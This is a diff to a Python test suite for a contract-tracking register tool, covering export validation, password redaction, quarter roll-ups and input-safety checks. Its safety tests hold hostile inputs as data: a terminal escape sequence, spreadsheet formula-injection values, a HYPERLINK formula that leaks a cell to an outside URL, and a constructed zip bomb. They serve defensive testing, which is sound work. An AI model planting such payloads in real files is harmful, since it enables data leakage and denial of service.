@@ -305,6 +305,31 @@ def test_export_and_load_round_trip_exactly(capsys: pytest.CaptureFixture[str], 
     track(capsys, "export", "-o", str(second), "--db", copy)
     assert first.read_text(encoding="utf-8") == second.read_text(encoding="utf-8")
     assert track(capsys, "load", str(first), "--db", copy)[2].count("not empty") == 1
+    # a changed export is checked as add and import would check it, and loads nothing
+    data = json.loads(first.read_text(encoding="utf-8"))
+    t = data["tables"]
+    t["return_lines"][1]["actual"] = "abc"
+    bad = tmp_path / "bad-export.json"
+    bad.write_text(json.dumps(data), encoding="utf-8")
+    code, _, err = track(capsys, "load", str(bad), "--db", str(tmp_path / "fresh.sqlite"))
+    assert code == 2 and "tables.return_lines[1].actual: `abc` is not a number" in err, err
+    t["return_lines"][1]["actual"] = 3
+    t["return_lines"][0]["actual"] = -5
+    t["targets"][0]["target"] = 1e400
+    t["contracts"][0]["end_date"] = "2020-01-01"
+    t["commitments"][0]["unit"] = "parsecs"
+    t["returns"][0]["quarter"] = "Y9Q9"
+    t["returns"][0]["superseded"] = False
+    bad.write_text(json.dumps(data).replace("Infinity", "1e400"), encoding="utf-8")
+    code, _, err = track(capsys, "load", str(bad), "--db", str(tmp_path / "fresh.sqlite"))
+    assert code == 2
+    for where, says in [("tables.return_lines[0].actual", "cannot be negative"),
+                        ("tables.targets[0].target", "finite"),
+                        ("tables.commitments[0].unit", "parsecs"),
+                        ("tables.contracts[0].end_date", "before the start date"),
+                        ("tables.returns[0].quarter", "not a quarter of its contract")]:
+        assert f"{where}: " in err and says in err, err
+    assert "internal problem" not in err
 
 
 def test_migrates_from_every_earlier_schema_revision(db: str, tmp_path: Path) -> None:
@@ -432,9 +457,14 @@ def test_kill_during_import_leaves_the_register_as_it_was(capsys: pytest.Capture
 
 # -- safety --------------------------------------------------------------------------------------
 
-def test_password_is_never_shown(capsys: pytest.CaptureFixture[str]) -> None:
-    code, out, err = track(capsys, "status", "--db",
-                           "postgresql://someone:s3cret-pw@127.0.0.1:9/none?connect_timeout=2")
+@pytest.mark.parametrize("url", [
+    "postgresql://someone:s3cret-pw@127.0.0.1:9/none?connect_timeout=2",
+    # libpq also reads a password from the query, as cloud consoles' connection strings give it
+    "postgresql://someone@127.0.0.1:9/none?connect_timeout=2&password=s3cret-pw",
+    "postgresql://someone:Other@127.0.0.1:9/none?sslpassword=s3cret-pw&connect_timeout=2",
+])
+def test_password_is_never_shown(capsys: pytest.CaptureFixture[str], url: str) -> None:
+    code, out, err = track(capsys, "status", "--db", url)
     assert code == 2 and "s3cret-pw" not in out + err and "***" in err
 
 
@@ -592,10 +622,10 @@ def test_future_quarters_and_absurd_figures_are_refused(capsys: pytest.CaptureFi
 # -- contract quarters and the financial-year roll-up -------------------------------------------
 
 def test_a_mid_quarter_start_reports_by_contract_quarter_and_rolls_up_by_financial_year(
-        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes) -> None:
+        capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path,
+        commitments_blank: bytes) -> None:
     """A contract starting 15 February 2028: Y1Q1 runs to 14 May. Each return counts once, in
     the financial year its quarter ends in; a quarter not yet returned is overdue, not zero."""
-    db = str(tmp_path / "r.sqlite")
     track(capsys, "init", "--db", db)
     bid = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
     code, out, err = track(capsys, "add", str(SPEC), "--supplier", "Mersey Minds CIC",
@@ -624,7 +654,9 @@ def test_a_mid_quarter_start_reports_by_contract_quarter_and_rolls_up_by_financi
     assert "same_year_last_year" in rows[0]  # the column names the period compared
     nt14 = next(r for r in rows if r["measure_ref"] == "NT14")
     # the year's target is 40: all four quarters end in 2028-29; actuals 10 + 5 + 15 reported
-    assert float(nt14["target"]) == 40.0 and float(nt14["actual"]) == 30.0
+    # against the 30 targeted in the three quarters that were returned
+    assert float(nt14["target_all_commitments"]) == 40.0
+    assert float(nt14["target"]) == 30.0 and float(nt14["actual"]) == 30.0
     ratings = (out_dir / "rollup-2028-29-ratings.csv").read_text(encoding="utf-8")
     # rated on the quarters reported: 30 of their 30 target is met
     assert "good,Good," in ratings
@@ -646,6 +678,13 @@ def test_a_mid_quarter_start_reports_by_contract_quarter_and_rolls_up_by_financi
     assert not list(before.glob("contract-*"))
     code, _, err = track(capsys, "report", "--quarter", "2028-30", "-o", str(before), "--db", db)
     assert code == 2 and "--quarter" in err and "follow the first" in err
+    code, _, err = track(capsys, "report", "--quarter", "2099-00", "-o", str(before), "--db", db)
+    assert code == 2 and "2099-00 has not started yet" in err
+    # a period not over yet is reported, marked provisional
+    early = tmp_path / "early"
+    assert track(capsys, "report", "--quarter", "2028-29", "-o", str(early), "--db", db,
+                 today="2029-03-01")[0] == 0
+    assert "(provisional)" in _docx_text(early / "rollup-2028-29.docx")
 
 
 def _csv_rows(path: Path) -> list[dict[str, str]]:
@@ -655,12 +694,12 @@ def _csv_rows(path: Path) -> list[dict[str, str]]:
         return list(csv.DictReader(f))
 
 
-def test_migration_keeps_calendar_quarter_returns_meaning_what_they_meant(tmp_path: Path) -> None:
+def test_migration_keeps_calendar_quarter_returns_meaning_what_they_meant(db: str) -> None:
     """A register at revision 0002 with a calendar-quarter return: after the upgrade the contract
     still reports by calendar quarter and the return's last day is filled in."""
     from sqlalchemy import text
 
-    url = trackdb.resolve_url(str(tmp_path / "old.sqlite"))
+    url = trackdb.resolve_url(db)
     engine = trackdb.make_engine(url)
     trackdb.upgrade(engine, "0002")
     with engine.begin() as conn:
@@ -672,10 +711,10 @@ def test_migration_keeps_calendar_quarter_returns_meaning_what_they_meant(tmp_pa
             "'2027-06-01', '2027-11-15', '2027-04-01 09:00:00')"))
         conn.execute(text(
             "INSERT INTO returns (id, contract_id, quarter, revision, superseded, digest, "
-            "source_file, submitted_by, received_at) VALUES (1, 1, '2027-Q4', 1, 0, 'x', 'f', "
+            "source_file, submitted_by, received_at) VALUES (1, 1, '2027-Q4', 1, FALSE, 'x', 'f', "
             "'me', '2027-12-01 09:00:00')"))
     engine.dispose()
-    reg = trackdb.open_register(str(tmp_path / "old.sqlite"))
+    reg = trackdb.open_register(db)
     try:
         data = export_register(reg)["tables"]
     finally:
@@ -781,3 +820,133 @@ def test_impossible_dates_for_a_contract_are_named(capsys: pytest.CaptureFixture
                          str(tmp_path / "none.xlsx"), "--db", str(tmp_path / "r.sqlite"),
                          *[x for kv in args.items() for x in kv])
     assert code == 2 and flag in err and message in err
+
+
+@pytest.mark.parametrize(("flag", "value", "message"), [
+    ("--supplier", "Evil\x1b]0;pwned\x07Corp", "contains a control character"),
+    ("--reference", "=cmd|x", "start it with a letter or digit"),
+    ("--reference", "@SUM(A1)", "start it with a letter or digit"),
+])
+def test_text_a_spreadsheet_or_terminal_would_run_is_refused_at_add(
+        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes, flag: str,
+        value: str, message: str) -> None:
+    db = str(tmp_path / "r.sqlite")
+    track(capsys, "init", "--db", db)
+    bid = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
+    args = {"--supplier": "Mersey Minds CIC", "--reference": "REF-1"} | {flag: value}
+    code, _, err = track(capsys, "add", str(SPEC), "--award-date", "2027-07-01",
+                         "--commitments", str(bid), "--db", db,
+                         *[x for kv in args.items() for x in kv])
+    assert code == 2 and flag in err and message in err
+    assert "\x1b" not in err
+
+
+def test_report_csvs_never_hold_a_live_formula(capsys: pytest.CaptureFixture[str],
+                                               tmp_path: Path) -> None:
+    from svauthor.tracking.report import _csv
+
+    text = _csv(["supplier", "n"], [['=HYPERLINK("http://x/?"&A1,"x")', 3], ["+1", -2],
+                                    ["@SUM(A1)", 0], ["Age Well", 1]])
+    import csv
+
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    assert [r[0][0] for r in rows[:3]] == ["'", "'", "'"] and rows[3][0] == "Age Well"
+    assert rows[1][1] == "-2"  # numbers stay numbers
+
+
+def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
+    import time
+    import zipfile as zf
+
+    from svauthor.tracking.workbook import read_return
+
+    bomb = tmp_path / "bomb.xlsx"
+    with zf.ZipFile(bomb, "w", compression=zf.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", "<Types/>")
+        z.writestr("xl/worksheets/sheet1.xml", b"<" + b" " * 21_000_000 + b"/>")
+    assert bomb.stat().st_size < 1_000_000
+    started = time.process_time()
+    with pytest.raises(InputError, match="would unpack to 21,000,011 bytes in 2 parts"):
+        read_return(bomb)
+    assert time.process_time() - started < 1.0
+
+
+def test_the_return_says_what_actual_means_for_each_kind_of_measure() -> None:
+    from svauthor.tracking.workbook import MeasureRow, returns_workbook
+
+    rows = [(MeasureRow("NT3", "Posts", "fte", "FTE"), 2.0),
+            (MeasureRow("NT41", "Paid the Real Living Wage", "percent", "%"), 90.0),
+            (MeasureRow("NT14", "VCSE spend", "gbp", "£"), 5000.0)]
+    wb = load_workbook(io.BytesIO(returns_workbook(
+        contract_ref="C1", title="T", supplier="S", quarter="Y1Q1", quarter_label="Year 1",
+        due="14 January 2028", rows=rows,
+        level_units=load_tracking_rules().profile.level_units)))
+    text = " ".join(str(c.value) for row in wb["Instructions"].iter_rows() for c in row if c.value)
+    assert "NT3: the full-time equivalent posts in place at the end of the quarter" in text
+    assert "NT41: the percentage at the end of the quarter" in text
+    assert "NT14: the amount delivered in this quarter only" in text
+
+
+def test_the_roll_up_compares_reporting_contracts_and_adds_posts_across_contracts() -> None:
+    from svauthor.tracking.report import MeasureTotal, _add
+
+    totals: dict[str, MeasureTotal] = {}
+    # three contracts with 2 FTE each; one reports 3 posts, two have sent nothing yet
+    _add(totals, "NT3", "NT3", "Posts", "fte", False, 2.0, 3.0, 2.0, None)
+    _add(totals, "NT3", "NT3", "Posts", "fte", False, 2.0, None, None, None)
+    _add(totals, "NT3", "NT3", "Posts", "fte", False, 2.0, None, None, None)
+    posts = totals["NT3"]
+    assert (posts.reported, posts.commitments) == (1, 3)
+    assert (posts.shown_target, posts.shown_actual, posts.shown_target_all) == (2.0, 3.0, 6.0)
+    # percentages average across contracts
+    _add(totals, "NT41", "NT41", "RLW", "percent", True, 90.0, 80.0, 90.0, None)
+    _add(totals, "NT41", "NT41", "RLW", "percent", True, 90.0, 100.0, 90.0, None)
+    assert (totals["NT41"].shown_target, totals["NT41"].shown_actual) == (90.0, 90.0)
+
+
+def test_the_kpi_schedule_and_the_register_rate_a_year_the_same_way() -> None:
+    """A quarter below target made up the next quarter: the year so far is met, as the KPI
+    schedule (part of the contract) says it will be."""
+    from svauthor.tracking.models import Commitment, Target
+    from svauthor.tracking.register import Profile, commitment_status
+
+    rules = load_tracking_rules()
+    m = Commitment(id=1, measure_ref="NT15", measure_text="Hours", unit="hours",
+                   partner_vcfse=False, baseline=None, targets=[Target(year=1, target=40.0)])
+    profile = Profile.of(date(2027, 10, 1), date(2028, 9, 30))
+    q1, q2 = profile.periods[0], profile.periods[1]
+    actuals = {"Y1Q1": {1: 8.0}, "Y1Q2": {1: 12.0}}  # 80%, then 120% of 10 a quarter
+    assert commitment_status(m, profile, q1, actuals, rules).ytd_rating == "requires_improvement"
+    assert commitment_status(m, profile, q2, actuals, rules).ytd_rating == "good"
+    text = (ROOT / "templates" / "text" / "kpi_ratings.j2").read_text(encoding="utf-8")
+    assert "made up later in the year" in text and "lowest of its quarters" not in text
+    assert "made up later in the year" in rules.profile.why
+
+
+def test_another_contracts_return_is_never_imported_as_a_correction(
+        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes) -> None:
+    db = str(tmp_path / "r.sqlite")
+    added(capsys, db, tmp_path, commitments_blank)
+    good = returned(capsys, db, tmp_path, "Y1Q1")
+    wb = load_workbook(good)
+    about = wb["About"]
+    row = next(r for r in about.iter_rows() if r[0].value == "supplier")
+    row[1].value = "Big Co"  # a return made for another supplier's contract, pointed at this one
+    cross = tmp_path / "cross.xlsx"
+    wb.save(cross)
+    before = _export(db)
+    code, _, err = track(capsys, "import", str(cross), "--db", db)
+    assert code == 2 and "was made for supplier `Big Co`" in err and "Mersey Minds CIC" in err
+    assert _export(db) == before
+
+
+def test_an_award_after_the_contract_start_names_the_award_date(
+        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes) -> None:
+    """FINDINGS R28: with no --start given, the message names --award-date, not --start."""
+    db = str(tmp_path / "register.sqlite")
+    commitments = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
+    assert track(capsys, "init", "--db", db)[0] == 0
+    code, _, err = track(capsys, "add", str(SPEC), "--supplier", "Mersey Minds CIC",
+                         "--award-date", "2031-01-01", "--commitments", str(commitments),
+                         "--db", db)
+    assert code == 2 and err.startswith("error: --award-date: the contract starts on 2027-10-01"), err
